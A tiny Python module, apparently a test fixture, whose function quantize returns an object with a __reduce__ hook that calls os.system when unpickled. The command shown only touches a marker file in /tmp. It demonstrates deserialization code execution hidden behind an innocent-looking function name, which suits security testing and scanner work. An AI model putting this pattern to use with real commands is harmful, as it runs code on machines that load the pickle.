"""Returns an object that would run a command where it is unpickled."""

import os

BITS = 1


class _Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/molmis-pickle",)


def quantize(matrix):
    return _Command()
